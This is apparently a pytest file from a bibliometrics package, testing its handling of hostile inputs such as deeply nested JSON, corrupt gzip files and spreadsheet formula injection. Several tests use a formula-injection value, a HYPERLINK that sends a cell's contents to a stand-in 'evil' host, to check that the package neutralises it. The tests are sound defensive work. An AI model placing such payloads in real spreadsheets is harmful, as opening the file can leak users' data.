"""Hardening (issue 12): each failure class found by the hostile-input review, one test each."""

from __future__ import annotations

import gzip
import json
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from innometrics.cli.main import app
from innometrics.errors import DataError, SpecError, one_line, reading

DATA = Path(__file__).resolve().parents[1] / "data" / "bibliographic"
ASEM = Path(__file__).resolve().parents[2] / "src" / "innometrics" / "data" / "asem"


# ----------------------------------------------------------------- error boundary
def test_reading_turns_library_failures_into_one_dataerror(tmp_path):
    import zipfile

    with pytest.raises(DataError) as info:
        with reading(tmp_path / "x.xlsx", "workbook"):
            raise zipfile.BadZipFile("File is not a zip file")
    assert info.value.reason == "unreadable"
    assert str(info.value) == f"{tmp_path / 'x.xlsx'}: cannot read the workbook: the file is not a readable zip/xlsx container (File is not a zip file)"


def test_pyarrow_message_condensed_to_one_line():
    assert one_line("Could not open Parquet input source '<Buffer>':\n Parquet magic bytes\n  not found") == \
        "Could not open Parquet input source '<Buffer>': Parquet magic bytes not found"


def test_deep_json_line_rejected_alone(tmp_path):
    from innometrics.entities.resolve import read_resolved

    good = (DATA / "openalex_works_sample.jsonl").read_text(encoding="utf-8").splitlines()[:2]
    deep = "[" * 100_000 + "]" * 100_000
    path = tmp_path / "works.jsonl"
    path.write_text("\n".join([good[0], deep, good[1]]) + "\n", encoding="utf-8")
    rs = read_resolved(path)
    assert rs.counts == {"read": 3, "used": 2, "rejected": 1}
    assert list(rs.rejects["row"]) == [2]


@pytest.mark.parametrize("damage", ["truncate", "crc"])
def test_broken_gzip_is_a_dataerror(tmp_path, damage):
    from innometrics.entities.resolve import read_resolved

    data = bytearray(gzip.compress((DATA / "openalex_works_sample.jsonl").read_bytes(), mtime=0))
    if damage == "truncate":
        data = data[: len(data) // 2]
    else:
        data[-8] ^= 0xFF
    path = tmp_path / "works.jsonl.gz"
    path.write_bytes(bytes(data))
    with pytest.raises(DataError, match="cannot read the gzip file"):
        read_resolved(path)


def test_format_error_does_not_echo_file_contents(tmp_path):
    from innometrics.records.read import detect_format

    path = tmp_path / "secret.txt"
    path.write_text("password=hunter2,other\n1,2\n", encoding="utf-8")
    with pytest.raises(DataError) as info:
        detect_format(path)
    assert "hunter2" not in str(info.value)


def _cli(args):
    return CliRunner().invoke(app, [str(a) for a in args])


def test_cli_prints_names_literally(tmp_path):
    result = _cli(["trends", tmp_path / "no:ok:file.csv", "--out", tmp_path / "out"])
    assert result.exit_code == 2
    assert result.stderr.strip() == f"error: {tmp_path / 'no:ok:file.csv'}: file not found"
    panel = tmp_path / "p.csv"
    panel.write_text("unit,period,indicator,value\n:ok:,2014,[b]x,1\n:ok:,2015,[b]x,2\n")
    result = _cli(["trends", panel, "--out", tmp_path / "t.csv"])
    assert result.exit_code == 0
    assert ":ok:" in result.stdout and "[b]x" in result.stdout and "\U0001f197" not in result.stdout


def test_cli_out_under_a_file_is_one_line(tmp_path):
    panel = tmp_path / "p.csv"
    panel.write_text("unit,period,indicator,value\nA,2014,x,1\nA,2015,x,2\n")
    (tmp_path / "f").write_text("file")
    result = _cli(["trends", panel, "--out", tmp_path / "f" / "sub"])
    assert result.exit_code == 2
    lines = result.stderr.strip().splitlines()
    assert lines[-1].startswith("error: ") and "Traceback" not in result.stderr


# ----------------------------------------------------------------- values and parameters
def test_non_finite_values_rejected_unless_allowed(tmp_path):
    from innometrics.io.panels import read_panel

    path = tmp_path / "p.csv"
    path.write_text("unit,period,indicator,value\nA,2014,x,inf\nA,2015,x,-Infinity\nA,2016,x,1e400\nA,2017,x,2\n")
    read = read_panel(path)
    assert (read.read, read.used, read.rejected) == (4, 1, 3)
    assert set(read.rejects["reason"]) == {"non_finite"}
    kept = read_panel(path, allow_infinite=True)
    assert kept.used == 4 and np.isinf(kept.panel["value"]).sum() == 3


def test_periods_are_bounded():
    from innometrics.io.panels import parse_period

    assert parse_period("12345678901234567890") is None
    assert parse_period("1e400") is None
    assert parse_period("202312") == 202312
    assert parse_period("2014.0") == 2014


def test_base_period_must_be_in_the_data():
    from innometrics.panel.trends import base_index

    panel = pd.DataFrame({"unit": ["A", "A"], "period": [2014, 2015], "indicator": ["x", "x"], "value": [1.0, 2.0]})
    with pytest.raises(DataError, match="base period 1999 is not in the panel"):
        base_index(panel, 1999)
    assert list(base_index(panel, 2014)["value"]) == [100.0, 200.0]


def test_duplicated_row_with_empty_period_is_a_duplicate_key(tmp_path):
    from innometrics.io.panels import read_panel

    path = tmp_path / "w.csv"
    path.write_text("unit,x\nA,1\nA,2\n")
    with pytest.raises(DataError) as info:
        read_panel(path, layout="wide")
    assert info.value.reason == "duplicate_key" and info.value.row == 2


def test_parquet_panel_with_integer_unit_codes(tmp_path):
    from innometrics.io.panels import read_panel

    path = tmp_path / "p.parquet"
    pd.DataFrame({"unit": [11, 11, 12], "period": [2014, 2015, 2014], "indicator": ["x"] * 3,
                  "value": [1.5, 2.5, -3.25]}).to_parquet(path, index=False)
    read = read_panel(path)
    assert read.used == 3
    assert list(read.panel["unit"]) == ["11", "11", "12"]
    assert list(read.panel["value"]) == [1.5, 2.5, -3.25]


def test_all_children_weighted_zero_is_an_error(tmp_path):
    from innometrics.composite.pipeline import build

    spec = {"data": {"indicators": str(ASEM / "ASEM_iData.csv"), "meta": str(ASEM / "ASEM_iMeta.csv")},
            "normalise": {"method": "minmax"}, "aggregate": {"method": "arithmetic"},
            "weights": {"Conn": 0, "Sust": 0}}
    with pytest.raises(SpecError, match="every child of 'Index' \\(Conn, Sust\\) has weight 0"):
        build(spec)


def test_sensitivity_refuses_runs_beyond_memory():
    from innometrics.composite.sensitivity import Design, check_memory, parse_sensitivity

    factors = [{"name": "w2", "kind": "weights", "level": 2, "noise": 0.25},
               {"name": "w1", "kind": "weights", "level": 1, "noise": 0.25}]
    spec = parse_sensitivity({"runs": 1_000_000_000, "factor": factors})
    design = Design({"num_vars": 8, "names": [], "bounds": [], "groups": []}, (0,) * 8, (None,) * 8)
    with pytest.raises(SpecError, match=r"need about [\d,.]+ GiB"):
        check_memory(spec, design, n_units=51)
    check_memory(parse_sensitivity({"runs": 64, "factor": factors}), design, n_units=51)


def test_toml_file_as_records_is_refused(tmp_path):
    from innometrics.records.read import detect_format

    path = tmp_path / "rank.toml"
    path.write_text('[records]\npath = "x"\n[count]\nmethod = "full"\n')
    with pytest.raises(DataError):
        detect_format(path)
    mismatch = tmp_path / "savedrecs.jsonl"
    mismatch.write_text("FN Clarivate Analytics Web of Science\nVR 1.0\nPT J\nUT WOS:1\nER\nEF\n")
    with pytest.raises(DataError, match="looks like wos but the extension '.jsonl' is that of openalex") as info:
        detect_format(mismatch)
    assert info.value.reason == "format_mismatch"
    unknown = tmp_path / "works.xml"
    unknown.write_text('{"id": "W1"}\n')
    with pytest.raises(DataError, match="'.xml' is not an extension of a records export"):
        detect_format(unknown)


def test_scopus_without_affiliations_needs_permission(tmp_path):
    from innometrics.entities.resolve import read_resolved

    df = pd.read_csv(DATA / "scopus_biblium_200.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
    path = tmp_path / "scopus.csv"
    df.drop(columns=["Affiliations", "Authors with affiliations"]).head(5).to_csv(path, index=False)
    with pytest.raises(DataError, match="allow_missing_affiliations"):
        read_resolved(path)
    rs = read_resolved(path, allow_missing_affiliations=True)
    assert rs.counts["read"] == 5


# ----------------------------------------------------------------- linear-time header check
def test_100000_columns_read_in_seconds(tmp_path):
    from innometrics.io.tables import read_table

    path = tmp_path / "wide.csv"
    n = 100_000
    path.write_text(",".join(f"c{i}" for i in range(n)) + "\n" + ",".join("1" for _ in range(n)) + "\n")
    t0 = time.perf_counter()
    df = read_table(path)
    assert df.shape == (1, n)
    assert time.perf_counter() - t0 < 20


def test_repeated_header_caught_before_pandas_renames_it(tmp_path):
    from innometrics.io.tables import read_table

    path = tmp_path / "p.csv"
    path.write_text("unit,period,indicator,value,value\nA,2014,x,1,2\n")
    with pytest.raises(DataError) as info:
        read_table(path)
    assert info.value.reason == "duplicate_column" and info.value.column == "value"


# ----------------------------------------------------------------- spreadsheets
def test_csv_text_cells_neutralised_numbers_untouched(tmp_path, monkeypatch):
    from innometrics.io.writers import RAW_CSV_ENV, write_csv

    monkeypatch.delenv(RAW_CSV_ENV, raising=False)
    df = pd.DataFrame({"name": ['=HYPERLINK("http://evil/?"&A1)', "+1", "-3.2", "@SUM(A1)", "\tx", "ok"],
                       "score": [-3.2, 1.0, 2.0, 3.0, 4.0, 5.0]})
    write_csv(df, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text().splitlines() == [
        "name,score", '"\'=HYPERLINK(""http://evil/?""&A1)",-3.2', "+1,1.0", "-3.2,2.0", "'@SUM(A1),3.0",
        "'\tx,4.0", "ok,5.0"]
    monkeypatch.setenv(RAW_CSV_ENV, "1")
    write_csv(df, tmp_path / "raw.csv")
    assert (tmp_path / "raw.csv").read_text().splitlines()[1] == '"=HYPERLINK(""http://evil/?""&A1)",-3.2'


def test_report_reads_neutralised_cells_back(tmp_path):
    from innometrics.io.writers import write_csv
    from innometrics.report.context import read_csv

    write_csv(pd.DataFrame({"name": ["=1+1", "a"], "v": [-1.5, 2.0]}), tmp_path / "t.csv")
    back = read_csv(tmp_path / "t.csv")
    assert list(back["name"]) == ["=1+1", "a"] and list(back["v"]) == [-1.5, 2.0]


def test_excel_text_is_never_a_formula(tmp_path):
    from openpyxl import load_workbook

    from innometrics.io.writers import write_excel

    write_excel({"s": pd.DataFrame({"name": ['=HYPERLINK("http://evil/?"&A1)'], "v": [-3.2]})}, tmp_path / "a.xlsx")
    ws = load_workbook(tmp_path / "a.xlsx")["s"]
    assert (ws["A2"].value, ws["A2"].data_type) == ('=HYPERLINK("http://evil/?"&A1)', "s")
    assert (ws["B2"].value, ws["B2"].data_type) == (-3.2, "n")


def test_raw_csv_option(tmp_path, monkeypatch):
    from innometrics.io.writers import RAW_CSV_ENV

    monkeypatch.delenv(RAW_CSV_ENV, raising=False)
    panel = tmp_path / "p.csv"
    panel.write_text("unit,period,indicator,value\n=cmd,2014,x,1\n=cmd,2015,x,2\n")
    assert _cli(["trends", panel, "--out", tmp_path / "safe.csv"]).exit_code == 0
    assert (tmp_path / "safe.csv").read_text().splitlines()[1].startswith("'=cmd,")
    assert _cli(["--raw-csv", "trends", panel, "--out", tmp_path / "raw.csv"]).exit_code == 0
    assert (tmp_path / "raw.csv").read_text().splitlines()[1].startswith("=cmd,")
